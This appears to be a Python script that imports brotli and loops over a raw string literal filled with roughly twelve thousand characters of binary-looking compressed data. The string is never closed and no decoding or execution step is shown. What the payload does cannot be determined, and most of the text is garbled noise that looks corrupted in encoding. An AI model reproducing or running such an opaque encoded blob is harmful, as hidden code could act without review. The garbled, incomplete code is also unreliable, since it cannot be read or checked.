import brotli
n=a=0;b=1
for c in r'''wL2(gْ/v#>ߍL>&˹yptQ'/>yiS,	 zCvtl}umST,UąwĪ(%&}*FċݦJ<1
u|%}][ņd?Z^ypƲ޹$hޗMK$0ot7llkȶy͚Tj=ۣp8˺®ʕoyiu9jB_Ygd33=
Q,thǖa9ˈUߞPZ γMcrl@9C:z%|,ve~ߕ:Qϲ܄xt[vD6qoH'Q3'߬x:(/(.E[3.))ܪwYfҽoraHKW H9}FiOmIԄ[u;[¸E)K+LM8e<>Ĭ>@Ӏ}x׫mt. 6_W@Tvt,NlW*rx3yHZ}UG|17sfkuӑ>ݸYn4l1ٱUBӌ'΋6yD2ӫ:vx1 90sSgͯK).*C)ޘY-F]Ubmc_Ш5ׂ߬|zjbRJeOu>}C7ސRHkڷۇ/FSmż1)rDQׇ9o/oc-~X-kkc)J5]џKu?ŲA!S.{6uGlnOKi)OC;<p#ӝ+`:v9:M+L"Tel,!9A@R SkY,۝YuSϣ:IB6/R.O|4#Jdn]D>K|`4 G`YRdLM݃Xv`NIyxi7>A܀\T5LHu9WѪ͂d~74TC̢@]ӀNPe1GQA~qm<UyDȃD͟0ET։W	06h6CsaPғշpsY6eKB,#Uz
irȘd$ѣzY32 VPl*Vo(K`Uz)eв
e_Ƹ&sWrBF,M5?X_Q+	0}ޡ`BcMP&4PT[NܜtǝC
8ղYۻo@?*]V|D>pu#ۚ@Sg$N\g(7]tݣ߆m%oDqIϫmԨ?~vͪzY"/fXԁkaD$k/]J"WZ56%Yvnjsvsտf?qOG.Ϳ_KtpEھ.)2k<0,N <dʏ;l͉AI9UnqZEodPXXE63"kbyj\d&owb:JTb)/&֡VȞ@%˘_΁0s?We O+~B?}udz)ձԪ|?7,B^s:Kn`YFf|/?2T|Yh$F.tīRۏ9iNF̊&6Xc"{A}o=4U^^)ܿN*+jqgЁ!WB4;/8R+nӒ8V%U[bʌ0A_kˉA(ΧUϵO.GHIB{CiϐWނ$i|ӵTLrbJ	B%o/3"
MX8>]FV8 x\ܧ.ʝpb\=u^ZȀ'Rcv%.,,4d_vK##o@0}<^iQaťGɰ6گ'0U3˷oZ:H׳Ha
h]`xccNb25ZΆ'YDCQĭ)aڱ-b97%B{PmtZ՗_г-<4Wqي-[>}F;XӔ4D4KZӡF$5 pՑ7ŚXݩ2P.*pwݛ!yo{1[df;r#yJۻhn[Kvrvw%mT{d˫ݘ~dwa{Tv҂́t/?5H)r 9dXnq?FIy0ӫ]2A¨bm=K2ӄe;XJ@Yt٣K7ZV9QqYL,#DO>N99BhضxxklE1Ҽ`/َ50z܉ot!9&7J)Qś/+B>T~E6Ǝ̄	-m	6.X~B[ų^E'υ?Qeg+Z}mK8:{}޻-dUavmǟU)OKޮ1ivGݭt	VKeֻ/GTD`qy^^_M~8҆*r)p/Ohi" ':ظ-bh6I+Y۱2dN.qwX,-0Ab,sq
NCGXFgvҠYaJlܹq=D;#dOp=
jgg6b+ߕݺP87Ö
%K&iXg2D0vkܷYl'ٚd(nzb Ar7-`ܨ$PJy؜L=^F.2`Kn\bFHş%! }!$`0=WɄ4+AAΤ@	'<PYCh	H7dhÝ#$YdB$]Aj9Ś~شڍ؍3<Ϸ![ǤՑ&y.P2,%|c_kS8*}oyA6k/Cv%r%qV+ԫcmԠlpݩC̥A<o 4оqwx݌NwYM$xjRΓa>ZU,+J&$H)ٿ8jǨ 9X(BM[ov@n-gգ\ѹ+<=!w#cp,K{hknص\D/\Bzݝ3	J9* ,haȱnޏ݈]-TUeqA@lULMLˡdZ<¥OkBl)ov,Iun1X>+q)4=nnx<o+ߵ˪cĖs%SKՆUT,($'sg<&%Xlz3-T>Hͬ2F%TlB޲/O>ŴXFٍ߳iY+)RɢMJOHR`FPsy.CNȚWBƞ̦TɫҭW=#rt#19+֓=yqwGwFȡqZ%QfA9ni[Lrehftv,r=0FK+Ŵ$b-רhV{!hýw+Ds,kނը;1dSڂAi  }=^9v҇dfU~/mf1"85\2X.*;wY=QVԍW08DpZ91-/3=:c;18e>u,H36)޸(k&$20sL{SAnvԳоiVY#Q"zE#BAyr~SM7GLuY^
n̍2ES?J=h)+rث}<AdѐS _,*ő^KfG:`d#^y[%K4>UN^5N:KIbĈ\Hi؎݄3xs6D,fb:нG^`=C2K - Od^8AVK^s"߶76bsio(ͺwoJy]hl5Ogȴ\B}2F<mLqV6;'=
F?tzd7G2ƲY]KhcQݚog&BAVf?»{JDV*4!1lv=34C`|0Ni=iSZZйOTb
'7,~wA<ASqUMt٫?jKX<y[Y\_Bjكh<MN!ޤ0U"أ@*?isЬn<Iύ|PaBa9-<b-f!z¦ܦa (J7OͿN^gK^L`ө|tn:mU]mGHlڌdMCO.a
/ =LRYw$)l
M-Y)./-xW<Ĕ"TWP9u<y!Ci!>j)ʨZؘ)f4i3ΧŞEtޅͼORuyY8ݙCӮØ*gA	
rnX;ەQ(R(ˁcWԄ[ț50F(2SncpGg!,Q#hȺIK?ɔFkX{Q>5.	y2e\patsŇc}Bؤ%eٍ{ƨS=S~ϋڧgo\\N;!j2F+;֏l{jPHo
XtPYB R|Bt~(J>B%(|Uazy
A0Oh;;7Ѵ@D!GO})9iiG4.=W6@{r;Epa#a?i8_9(؈smlصuq%2aTn`3@,f+%6iWڑѢ0؛X4&wBQ#ғ1QG%e?YvG4Yb}e|n)RIv'{H%clս$6.,oޘ|ETp9G2G
_EӠ<WW vNSɀUe)9}^@Q:l15R#Wi-7aFе*cQ&'Ƌ|,)mjɜJǶʬLǭ6cx/nLDճ&amp,w1Ƥ%Vy+]޳mR S4?xp[:#4yNRk}ћE/Ʀ`avg:VǠH_|{sHrS1-K.<-	FK])&$l+è?pv?ǺLD`x<˯@|f["n?N؄s=j5[0@"S+	pVoWُL#h?θ%,H1pbOȶ"ry]V_W{:Ӯs:_uȰ)ǺaW[*Ouo8ċL?]ɡݽ(S4Lշg-nҲ׭bd9zO;w'c O4rn1mHdpi}w܎(lӻ	ڻۑ(MĎ#_A(65UxpJQ/6}>cY<l_-2W&r]؞aRED+a:/,W|Bb[tUc[LɏʬiW_5>4nOCة9Ẅ+[<h2%ye$1	V~[|ZnѳއHSn| Ӵ+u
I;0KȠ_QxCR][{n\^M~h;r"{8tTCl=|]j}(>YQʡy	X[4O4SfLw;.{;\.pdRyǭ,qWLZ
R~OYRM=9Y~.LKY{}ĀvԹ]F4oW[-ңɒþ-<ՉaEew`wo_mܘ;UIZ>:ߠI_x&G&M6` \-3;:c4Äw=U%cDw]y-P	]y9޼sݡϢύKb\Vq=jd˱٬XLk=ncan}`!TLBsqyyǩGdEuʼONuOk)c|˾{@h|U`@ߤ0k·Slơ[+L)dT,VQٓ1WɌ,
KLoPX~Xw>e&׷U|4~zҦ4u.*PqT5*,Hb7,a7Ȼm:
|mbuVTtH$'#f[]vF~}w-Zk̒~kӬ
V?Y:^HF̡tCV{ԤmTҜ
o)WϞd(6B.6(ܪX$sKPڿ~-N]sj]Vr=Y6Y^Ps«BL.ڒ~	ݓnsbq@+9PI4YwW}rpl؊Ҕ@_ټ[W"qQ1ٓ[;<Va{{$~SkDמzNV[yzoT8{qm&RX(T7>?ۓհweXC1PN$ׯ}zMW2tCӂX+M}.ňX'xN~٠ano	aQ5݀p3+-8cuH=ˬ%ZZs@ށbC0?FO}3QLt|sBRNd2/oObo%{T-gP2R{5d}MZ|<3)qPZxDeئ:7<۟J;$Z(
x2a"qn֜QB g tRTOǣI̬tLDO+%PSwҜg+shCcVx
M@7V߇؀@^za*"rGFJM6n_7pR	YOS)pPb,EW)`#{=>E0xC?MKRiaBMb1-N|7p+x?D!hPM{vasK915j:a>1ׂґ%az/цkf3Q*ҰIU YQL{/*""L>c\e5|۶.PM1V֏r5#|-]zJ_FSV0̧߅8[fq;K:eGou̠>
 }
ץFҿi-,д%.D̻1GJ=73iOѩ6r|kbO~ApG~˜ڛ܁O0ٙ˶V^"NWtdպDƶgP݅8+.YpIQC-
DDAGp-se.]	ΎQkp\A8<D3c6Q73-NoJ[͔:F4lK|^|.'KU}.T1;h @*İ^^w!pHe&vTŝNT1YtNe;`Ɓƪm_/Hj~аw4	x]2n<Ժq{NWFd_! ː ̝<W=fבȝqDPXAr&D0ܡ9Ʀ}/axxqewҾ6f,GSxgz7"%j'^<pAyP\Bb	ŻFn#LYV~yU*M_`kk;,9
χٌKoƅ|ѳ)D݋ 'wgq0@PzG!<gN"	l>;#tѭ
vB=<j+8k@ՍQ3villϚMF5Ujvn2Z&h}41*a]vC:QXq9iYiibl>ڄ=Yw_}'x*Ua5tQiٝ |CҴ,ָLOԗՎϱR*(*Hد΃^.۹c)pܤs~o+bP>Ec` ~ԪLbĵ-ۦ3#q Dpq12=^Ydeڶ}Xԃا~LKt#Q/`ʉ'w
֡:3DcQ eŐO]P':cqN}8UwzoP:q%P6R+&
P,U T1F-zѪFH\#o 95k
nIX`FZ69Y!YyH?"ǰkS/tIBmHrLsrAB1,G^(&
p""z26ծ\ǥhApâ) ˍE*Nq=YӦĩ0zP)}^a9Xv16:k>BC\tmD|aPקMgnx?};XG\AzPW@yθQϊw۪s	Y2{ k[:I^vVin߇Ҿѓ\<i1c|Le$w;z!"ڼkp`C/nXIS}LDq2Tq־=$8T§AG\ȑРL'gݶxOzНΣ_&٫7Ijϋq$[DzZ7ŀĹl VIH)?O>(NLm/L+fؾA6Pһلhy6E_׬PgM`n <alߍA\3PXq+?ՐZ9 ,JJYBm}]ϣwJQg!Ŀ̨ĺG1G͉rn%D$-2{}wr.۽Z?ߵ?|!QH9Mؘ'U=wډ}CWC|$̢XUԸ!xAR9}.Te!@jL_$jWf6q3'8wj׋c[,j W48ieCU2H
]ņnPvI$r4bc=ߙRI
m8ZUkXiM߻L՟PfS]{7FA>SI}k88jӀˬ<Y'҅pC6&9ԳqHQBvaaU)&ֺљq*rH7!bv;Gܟ~ڳPԊߦvNyK}((gxx'`8bJBjX+2'eܷ۹tlm٨Huc
t=INs]ed}*wŗZe9ztb0wjzB:pĿ Rزl!4$Yξň#tY\	rw!ȸx4sz7GoQT)PDيg]/$@+'">A[weå3)E:GjWGPTa6jCBv9,MbaM_Å>ȡ~ڳ?ޝy.,pѕ~yZ^M)՘//^ߞh?8OMRRZ/G{Pݯk^p8D֦T@'WY}`wWkίؗ.hfA6|;\qs/fލ"D۽D֙ ьNTRqǣ5lfo۟>mWov9ϱgFDܟPMՎǹF~dI>:^cO[7P|+$
e&nHY`><
тEպ$=J0%Ν#2Dx%kH 
V
(J'D,)sliD\fiؽy\-VI1muLCr#k!+%V˃")K.ng=%)#ʃ-ȁ/Eg:2<R2.ݯIڡ3++L#OvfFV3.ԘckՆN)ȉJXlG#Ϡ(vei]V!/=/ns՚ٽ3~ÞH9gf-EɗA`_uDTsn;жwۄg#C&c*3j9'{|NJ'ƷXə
ƛb>mFC#~0QSÉ&WlЂGm	92͑[6aY5{U&39[R8k;I@^0|Q0΃Й_rx5bc`A&Q|pb4bNӪJ\[ң$iv&Յ3>V&)#oX.*}П)W+(ezm~۩.uEO>o~UߨΤ,mZ{Zx-LQ~P|vֱd{،ԶTR#Biܩqɛ5k',άEzڴ	fMG(2ww޶^tuPlCMP<"61VD'=)ʩ
[xq{B,\Vor}.lFpod2 (ҨaKS"\wG*ѕ):ϑ߃S-\\+˳2uaRw4\ֳ-r^>ִHF3R%zčsgC/,ʮW~߱myϭkגlx`sɠ4F0ɒqRYxQrٓ2JNԱ"˩V3_V˳{QWc[+rz}oQ!<QEC Ϟ{2WQ~UosD^ދZ7cZܪs̫d&4	31{)`]u{hmγkȏ*v/:mD{a8\_1:Fwݯĕ&quY&Үݖ
?R5nw#oR+õ}nxojĖ[0!pD_cEfAv`̢JkԝXȞJd*@ҏX;Ď8ͼWp*ĺEq8cm-ۚZVk,ެ nVg4S+0@Э#.O]9>NWHXZ3f#2mBeM#`VJӕڊk©*K0<'-zɉ'Obt9#Qn'{m>k?ä~R׆m\g<x%*c[Ʈ
|F$yMV7ͽFR

l¤m4rZQ">!hK;Vtj`;gZ:Ev߇_o8>9y˟>?t
6Lnuq4eވL>r|wA</so!4WԌ7##b$g^̑(AJw^:ґC;Vש;ϚݎMj!5lսb8$To%`؜:jMj|0qxjV׈Ԡ|
Sڏ,Y-mSǫ̇7l-`:{OSpLض!,%$KL+SƧ`BESUBG!<}~ѫ[eLqבBxP4&|:s8fL3[G7I8#[318~K9,2|(>ode@ѶVcJBiP`U-U!Hٜ7	*VWU9;{mҴ]!h)g|Huaӂ9A.lm>v&1õ'{ʡQ:xJB<^K;dަ@p'x9o%sMݲّ	f	d˩o)'TcPJh܏V?ͬ8-dA8Ps2<";jm> ;BirFSZ/kO"^ý3CkIK˸Vq]oUب	'8&p׋W4/s'S8H0߫i>ѧ0AImĂ}HiHl=Q#
^cڿ	ڑQеv`\[EQ}ب/հ$K\YnrCAڴfP#أnjݼ"0=3adq̲2#ΡIRwK^3ܫJL`g̚Oa
AGlΗ-
qcl./>~HMƚeA4dcEߔgߘa}rj|G!4hJ؛XV9~LOXeGuЬɛG<^S;>ٵ}Š/ްȔ/!_Fg޲Ea0Rf$ӨoK\4#!hI(ۖҳ;hPgDO-"Xb?<3%p,ܘ&'x[Dz9db	qakWȞyVP5g<HDsŻKo[=<d"q,خ]QCr
G37Q}KlVi2̰иzdHףf+naot7&NIIg(;BJ@zdסj'֫>AШN2D!M"a2s,7{Uw^.>k6
GbcBBiHF+-;Iou	2J|	As<}Ռ1oֳ@lfj_ݾLe1-dP!2̒y]w%4JX%^E?4e;ѧX 3r#J"T2}??ڳE7GxkN?M)VF]4ԍ_ƉEI3&Z)O}qJd~AMQY\0M6Asyj><@yƛϲWbI|AMbV)G*5!M~E%RLɁ1Io=Xx[3=z6$_PE@Jr)~\wFNږLnq45o9::l(k%6y;s%5ѡxb0pߟHnLGt3bM^[,;I7p[(!ɂx!K3Z`֊ƀm;Y/\|ωݭ[ΓMǨhD7w ͮJ)%ўmַǡR6rt$+w0E&GvXKb	&"@g 8޴3pN{[pڬ;mݑ`'L&$;ם2	ıpaqI&9ƕ7{%-ӭ{?h۠|B_AXN.,O("4ԣY1m/*
xhraZg^^TAyg,]
vۻ T#2wh?-ZȄeTA[ËJׁ9NӴb^i%L69y'<3gc*m	+BulfXK)GU܂!Z;A̠D';OU~f@,s(Q^ILnp(PIZ3yƛTB_?Fa[TEG+3j@Oƞn2fW_kW;rtD1+Jg&[]xKfQW|#H8rd"_Z[w+HĤX'-(B݉O!Πī?Mj2\t1MxKa8hA[Ǯ|6
aƮ@(XA؋;4}~w`WnR/	o!ՖKcnqob2EBiwWDi*&t;5}aԲYәwV|{\a޲=64"7̈'-(;`+sh0iXl̸ɭYA2?N"iCZ]6_k!MAADvPIJ/AAν~2wz`:UwdEf;ߊS&\bUE_V1Y3"-b,eӗi϶!1%Oeʣ8mrKJtX5g\i{˳ҎB 9$9F/"	fw]-,};@Ol=4^jUA?u>5ta#G&@h6Pz-W˝JצrL6=q٩IX$do7/%YMb#N#F(s*W˦uLZe[0a	KjSޯ+Wl.PðGt8.ka
ϥ޵*Ӌ\5n<Y}skdyqUzDÂ}}ԿB)3ؔE	۳|k^V6T[MV7rRc9C~Y(ՠyjJk#<cQP%^fx##"6/wb1u4<?_dB[ǌAh!3Օ;9068<=.Jג)0TH>Yӕ[CϽbyWoN'$<u@/ܨ\Ys<
B;""XYFxi1DQ`ƹltͅc}s%=/"oؠׂײʵȂӿ
,܁Z%
\>=:Cn2XӴmI$#Ղ?0ͯpҏWkqTbTؘSOȱi;ED,X4/LrsNtAF(n(ʈVm%-vc]zǭvƆn|k%quPnf[P)]Q-Z+=N.cRHGao*<J·@AF˜ݴǀFCm8/(au-{aDa-N4MkZܙ՛ohRC8?բ1ƲŌ2n/`]²BԏM*&~V"<^݆:,MΕP4xlZ*Dn|>c}qT>uS^{6ʻFv7.3&Dڋq#\QŃ2ҫ9:~b:v_Wwr7qR['+>ID	4<XY{@6S7jX}{t	)-|h2˽ihCgB>|ͳ@9UNưCk#;M=q&̮6G_ΒԆpz#M@BHb\nKpORn:sɈ5\Ի)LM?,|UwIt:>bIGܡ
؃x
JLDLK3*MW%:3M@Y7-
s"u|D{MTU#[&lZnfYHs#4*a~Oy+in8@fpwsщ!Q	7fmB~&md%bȇ#i0C_Ә<>'	w"<Pm!6 Z49_8P٦E3/DwKe<s.WǑ+eB5aSux`VxArB>MRO޽['əބoHdx839exFuYpΙ!+'bܙ/"y!c]jo`E.flDRxa^UUCBgHUjXDnGλΡ/91DiB#10u1t)mJ>WSL]ь½
qAq}k9K}9h5DSp:V'̙Ҵ&|hW&\zG!+OfBcqt%e-	d<A .< 8Bw4cKn$$qOq\=ԋaܙ*հT45hQWf7Aa̶sm@2n!P%[aBUQRޓZikOX|ɨ.Mѥџʖ(Jgy]5d7΋k?!ZzqN}2ւd8gfsiy0F}:\(NBê}h_8MMA8X-F*b11'9.Sxtvsq֮/<gfhїGq7M.ô0Q5zB+Ӕ!$\-ZǘT/|XXt>wFōWmL>AE0Z58ё>>!2JN'BE۟({N1w|xQrk5?92~ؙZeVg0H>uEm`à[,:>J/VÀeɿ>BٛήAL0y5uip\3UޕMOӲ.`>c3]i&F
)DZڠ7ݕ#240VFp+MRy:u{sџS8*D"\Ʀ\(?\G-jހ;,cۂSUi$ks0dUF Qmk٩-xB\݈Qt!D\ϸSM#YW@=q<M}њ|ׄ1BK$u̜Ґ;(Bq
5L.4x*'Wޘ3<ju~5$2%,7{I5x
{%bd׵9)gHɮMY4/ٔ~G(kf:?f3nwtqɻ6:b&!MsͷS$Jȑ{p('mh/dfѶ4<x٠!-=}ل\@#CRYh?Cu)qkuprγrJ+[T%4uMbM6gP*+%&4T.ʲ7gx"z	/jO0=a%9чq՘oQ`ٞf
I_/|<_aAO[e2f
jKϾPS8(D!<$$XWD:wɔ׵bfo9_Sm˙S_̿˼Fa7Ju{\MP 7LTyc#U<,	ѝ~e^Q2*2R͛>(A5n$mJS+V%sg4^U ҿv.\ĥҫF0-R^x;I|],|\v@xԭpnλ){d56ʞ"%9X4eܿڼn+D^'
4DRCy4gŰ>;	0ĄSޫjKOA4ћwd"?٦w%L$+i ,"Zq]2pb8wHiMϫEY@]Ә#(
Uμ-	19ZO%2{Bniۉy`x؃TVnn$Y=gfƞyܮWiYQwM	aҤs]X%\ HOzMq.ޡ_SS	Բ2w;	?1`
նQ=_0D>PnvAو}*0"eǣ<H8LDm[õ@v_ar٣π(zY͗cBI&_Dl	"mc0_2ҭ&aՆJc.qrvV5a#@	LƴZA;2ٱq<S8.D=VǞJu	EN	kBm]fYKp:B_cֲ­Ez%*jy/4]j2;˧PLĤ_"r1B\JJC
ہ'̣*fj[d/Hb0AMyi-U{׽B.òis\2Ÿ/QRv/өSsVb=zѱ3!{r(<V_Ϯ|Д(׼SXF@MbИE;|L|qSDyި<g F+\AİsEj
\NPz̘ߋfӔ2_FK!Oc	ef7-C/FVIAT="պ*իsQ/Ar6,Pל­$}ғ/l\.&vb$CO>wZfSU@>BUK1z<|]Df@|ޮhԸ sP1=SB:,Bqx|$wr-$ZiL|
Uߑ*t uXy{4OV7Ql0Sޙ<A^΅pdq_{9[hnxP+dZ	lQRy(Kvqo,У+N	̱~.ߵ@ڝ?SWǣ:f"suߦʦY04q4Qga#
#h]0u-|٠&DNV5VQգޒ\d#	cR9:6UN0:З$ֿ7ۅg"VOGn{Y&2B4Cv&c9m&N/	7CXBgҘ'eflWtl}6FJH/]ʏOM)YkȗJ5nhߠKZ@"԰0#`{N6wg,n HOYx+6)k6mƲ3y_f%ӵvOKW>{R	ēom1hTff^Z>ZXI[ǻ1)ʟfIGS'.8 s~k(Ŏȅe?;ХōMGE">P6P|Ef:ۢNrVT2(΁=/ZܞҀ'sADI9܂Ba5G$0$fZY`m~^9Oezm@%7ͶqJW'CK<	<>oFkjQY8,.PF<Qˮ1H>~:8RM Q(Ѹt`S7z7́\-T}3:˱ ?^փxގXmJ-޲gϸ7$a'®%,y9!xhF46
6TxtX73*q!>ޛ}³GleHȃFc߁#6ҭ}Y>}3VLHb_x)5f+TĂεV$Y^/op0'ЛNWL*X/N+-q4~)2Hqy&ω`{ÿX.	8ZiukZ̥҇bރvlYxB_kыk6:,%S_Uܸy7*"C)ʦO5yD?>ytfW<5yFNU61\޺2@E`ElL@ ИC<E3-|fy;S/0A@PHwd6w=lA.3EK_ެv9>BtN
H{Sw?YʊBJiQ0Π*3zsgx?@J?Yw0uONgMzb:s͗DbP[etr:eZѪ'r]&Sab($ʷ5C761m'4OQg6fגiZ,( ·FƬu!Gaюn2ly.jCy-qLu'ӟ8|yRRLmd~Z߂5fLg
}4ңH`"Ob aoĢ]ɪ,ռp~L~-n/WzfIRԼĈ
v@IΰܚڙA܂aP1('CҾ^f)QCAWĹ+"UxZзsˋaN&s0)| (!Ͷ2d#Y
kؽv ׽YjǃC˂!˕4$j+pd<F&d)H6&m=˸Ql5ŵKu+YV>/W.ο-0#mq%`-_A]K/	M̎+̂ǋ%ْ\ܞ>Gfii1Yd{٬ca֦~k!J]bfD/&mwrB.#r	$h4?|v1ZӞ\5-ik  ʸx0N͝B2tƀgח9܁CTG^;!ɘ3ܕi!,s׾,DJ}Aׁh':(mjȧpؚ\%MaͽAO|PJ:&1/ie<)k Rm&oFʹj֢>#1!E"35Qz݊lPjM
Ot!
Rc3N-Q;(̈́0OfdTM&iP|brQҲϼIeǪ)vst1D.8g`j6:noT:ƍν9NZ`Rȝݛ<Q<tϖRoA{V	s**xy!wMòmq;q
šO!ۡ/^ݪ9c-̓ewi,>ͤOVX"F+uֺA<sj~pTKѫv͗TD+!ݠxI<^G'#	0T%͏xbsxG4k]wVlSE{}iESӬrBTkiz6d̨ɾuvHpSǪmҽJR|cW>4ب4F3#fYaGT&oSB5L+ eJ>2E$`ƵB;1.H%g1$ٮL;:mj*#jSVc^ʙ׎J1ƊAd]I?}bldlWov;>zFs   3]&@ÊQ!-Dv6ܕ!g"#ƶ*30X]xP@	l:WʜQuƮ3:*<>	\M#Y3o^-7Ԑ9.35H}6)Gþi[!sB! fe9FWfJ8gʗeNQuߡA̿zϚl[eY"@r*F}{8EK(cD(OߦE19:׈XxdFGtn)}bX6qk&g7Xh+U}Ůj-$Z-Г'lq`mwBpuİ}K%)@	KU#@oWqŔxوp2ܘ?x5k/na0ڼcSڑmS&EZcޛ$a̢ʄ&IR&yrAo@'sP+ݘ݅F_$>ׄfq
B)Jr:t]y8ؤX1{EB	|fv&qYbD+S~gl5KSnƮ",f(R(ɳJ?sbnˬ@>ļ-qFEݖKΟY$n׿y41p`8u+X9Ӿo'Y<D0ȸp;v_܉ex[8םϪM)\$t=LsH!N"AwBoH	%1<U#ghܑNեw>/]-UR[Rpv4$Lf:#mrCu͑')Ǡ@EاgWUa<`:`H'z4s'6=f2g_%VT F)rUDWBN'&ޜiX1Ӎ',lgajw!>.^|b}:xo.TO&;tnV*>i[J1V:"/"ȴ1K&w&"_J;X.5(HzAK-vzf/nhӠ>M	PAs25M{!jw0')#P	p}psPQ%x+\q,W!|7f[jYISWT_B1%dFủplTj]WmTGK.W>m"6<o{zΣ~atitY+4,B'y`/X="*%Û;ٍJW3KI¶g	NzCPGʃ
tq˃_#nr,/׳G"ˏNbMGV(vE<
,~eVӍ]hيIC=u?4`1:\@5Af&G0]֊KصPڴV}w;_2ihгj4 mr̀ǸCQ"Zk(}2>-,3u"Ϣ[P(@O(wnqW-޻ΫooLy5O8x$٬[8xLN{W8GaБGC0:ֲwMKm2(/Be.W<ӏ˒	H^wךRW7UskL 5+*3Ki#>Ә@רmó/?a=X"J,YAyLn
'4r5_h8E\ɴүΆ6=IKhDaS;;UToؼb]c"3mWƭF}bOͳPΛ7lwFNd٪AmGZ>/=\'!,FyҼgϐD
.J{(Js'}ǅ9tiȗ_(}rhfDVy::/4KxOO-=54o?ܞc&:nBM7SJW'ih^Z\Vھ4h?#dt*k}2M30حAqђ~Z4gR5P.׉:(yT{z԰+A.|~#߱:|+-=́l[THfu3EY4t+r	,2lNšp߭}pцC۴N"ðLӐD;TEJۊB ޫ_u,QcљW(5 KHbaɚ{yt˿ѽܽ=r`2h^K)ʄ?QT/zot!܉}l=OjC2m	5*J6F8\#{tDBAc(xܕMUY
QL*RԗI`.٪Rd_-$kVl5FF^SG0+&$G[[b?D$!yiIL#3zP۱<s0\g;
wܿXzǽV MAo"o;<A]RCǂPDx^3VBxz\0NFroWVQnײ`tRuoWӡ/<;Hyy3<b#yc7؅@8\P]9sF.3uz8d~΁N(d)sE/IѾӟ0{fXݎlfu[Yi	ӧkզ~vx2ȊdBL]Wiv!Ѷ_ko
ŮsZn[!80Z{ѐCЀ@PuuĬQ"E}plKcI	#3ΪH8
<{ۜ%RN:.^0lkSGZMѿtc],3Zp<~#_08,@QY"b$w/0HgUD}JkzK({Ag~p*q8o09ԯLufáԑ=6	qxNAdcNUmFۑ܂ޚlw!0ПWZ*BD`}{ѶX\k(>IiY{5P+j+$[]vA6XycGgܝJ2i4ϗB,2>ecǃπÝߜf4kPϝCf)	mrMaVwrɵڅ\iƐB!@eJ)U дiUzŠl}E"Xd>>. y"fnpґgEa203X)ΏPp0ߟ3գ։67b,AT$+vƣK9? CNr{?Yϊq:"wc})^*c87f8Pq[_"^t{޸'Pl`>O݄Sգ3xP)<%/͒9F.9a0xxDPvGITU}E"gwXO~8sFCZ @k'1yѶ0.o4ЉtG1fAWLߗFq	V"1ȭ*MͭRȰ_<"w 1'_gi2hI׼dXn>ߣϦM(M2^Bb#z(Bfz<l>^	B2C"Ǘm1Ap:4aF$1kGA/F3s[pڋ'Sk\G×Zj;GQM 
AZeOh`8ɷcِ1ݘѮa_<3M6:ScIg
BbCt#PN`	@3ʻfj:%ѭsrF?k2rvn0qAK
P~)`)Wc|,Լ؃%C5^ެ/uEz%ĿXgIN؝\&=BM?Q5RJ٨ʶڽ\/Wǩ"sgaKrNj/7,X|fFO-1(v/<|!c!|V#xr{\NҮb\.=2®d}8a!!Xu71jFttriKHcuBוh\<XFWՍّjB}Ƹה%S7Gŗ/zl4luz]\x!R/)dOн$^hS84wSՔ>Wt4'SMv`
1v6g)ԎÜP_4<Ix./auR@۶rzB0V,>*Ģ*w)v=ǚ|
jp{Mf_uf}<t\TTnCƑ֞(UюdiѫBiy܃ 0a?]95|UР/s}\'Vma3",lƤ/!KebIE1̩I8ث	|(x̊p4$H|kxԸLnY3̌k$|ø2u!~B=gٟRϪW,cUx*`UwL%qVЅzK<$={"'7ЏDu1dܧ <e-Gq^NT?ŉU/tAP[Յ:\iD,px޹j]+8usJ&ȝn#	T]`ƑK>t`JAd=8~LX(.cL>>ؚǩ߈#8eunŠir%5͎+OE!nJ%XA^6bK>Г>5Vj`ku$fϠ]I
A/z|8q<]jjj́̑v/vXyGՁ~7Qt&^$Ғ@|v_  ȲRxl\4?H=,d(2[AlJ<"LڐF2tV{uSÈ͌95kdpd܎GU8}z1K&wD.rJ5,B&_R\ذCB>XE$q5DOkNgMK0G]!ӛ>ʱ$`߅;.uu!yϻaWCu.S{bj6ز4Ŋ]HO^jzNAl2u֌ЯR#1h<O&wu}c`0xRA5]ʆKMϟϒ|>sh*ؠaƎgÒtdҌ$xջ#~JHhûǓJ8S/\_c>-5k]c`53ԂFˀ}>xW.UR|:;ѢPiܦ;skХj̺+$sֵ~.D67$WzF{*XvW=^9Hjt+-wlǶzո"p\2
*0dz *v@#ăވy*~0շ5[iVt6BݎcUkCbBWF9&Q4ݔ)ֆ0vd?DҶ]FdCU8
~Ӊ%݋Fd,
AftRgŋjz҅ROf|OR3;Z	X<d'Cf߈N-:|qXo
ǒh;Y؏[^\13O#MłPD+˰u]y9̇žk{*9Ĉ(6mAjiQϮy+N=&ycjJ9|H%_f^os;,d<J\vݎJeUB|ZwqEUgko[[՘՝faڳBi 	aOQ18L:kBI^<&do`6OԘɖZqZhj$کY	:|ȭPѺQ0doP @xl$9\ߛ7`qфy{:~|#
cd̈́ЬއgVڒRGYXcAVk,uߢ[7vbKm "05J3c~"P]GQ\Л|JLxƐ%ݵ'/ cP>.`%GԄ)j=ZRZ֤Tb0]_0rв77MJ]3ЪρrkBKerq#%BG7f)ot{I
9˜?k۬{}45оDq,WIRPUL)iψ)hrw$q@_hԺv$A	x^-w$aJI!Wrʠ(0z'|ʍT.<Em:LR]dn§Yeυ8ށZ/IY=5k)B{0L;vtʽs&aW[Hrˎ qKzɊ!wy'/ƅКSD/pR5S&$;ˀ9WR4UGh:TJԻJyiQ"f:n0ۺA&+ #*>ʩ9	OOl۝MW͌:uzјn
Ms=2]d\Y
:.>i>"bjgnIgR<%ʕ~<|aÎl+=BHE-UNJk'Ñ>tva}ay"0Wp9ŐU1׻Qg}lo"newS:ZyV\Wb4~	Q7(Iٺ؍Xxh=FϤ<֎ڿ"JF{Hm:Ѓ#E|c6z7en[֠(iQY0|G5/v	p_ɴ<n]U)	nf`ķ6$Nm5S9oƮItЇ.UsAiT#o]ߞ}j(ƌ_3A/E|
FO1ؾՄ}!Cl߿ɐoבp*pҷr׸
'(߂g8)#Sb)1GMѐdM9r`	qɑb+(;0e4:=ȉ<$x"Xٞ$8]+.ʭ}qPGzXH%.eÕQ5 Ї44c߱/$Ћw7#[	ݭ~dXiC:ddVCN#ڍrTiC5Ոw`&ٵNq>sk$DoJ\8HhlaBCPI*x{VUB#WIM
=tȶf6+IVxU͵yي7߶~2%y"@HJC?NU_`cߎy%ss?Xr$V{߫nRB*qݷ#s)yGnyQCDH(vU]:5]wuZR8,/m2r={@p,Ů<E#U0K`x
